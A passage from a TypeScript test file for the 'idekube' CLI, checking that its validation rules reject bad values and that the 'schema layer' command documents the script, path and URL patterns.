        assert.ok(ruleProblem(rule, v), `check accepts bad ${JSON.stringify(v)}`);
      }
    });
  }

  it('`idekube schema layer` documents the rules', () => {
    const r = runCli(['schema', 'layer']);
    assert.equal(r.code, 0, r.stderr);
    const s = JSON.parse(r.stdout) as typeof layerSchema;
    assert.equal(s.properties.run.pattern, RULES.layerScript.pattern);
    assert.equal(s.properties.copy.items.properties.src.pattern, RULES.layerPath.pattern);
    assert.match(s.properties.copy.items.properties.src.description, /without \.\. segments/);
    assert.equal(s.properties.services.additionalProperties.properties.routes.items.properties.upstream.pattern, RULES.urlPath.pattern);
    assert.equal(s.allOf[0].description, 'a layer must do something: give it run:, copy:, copyFrom:, env: or services:');
  });
});
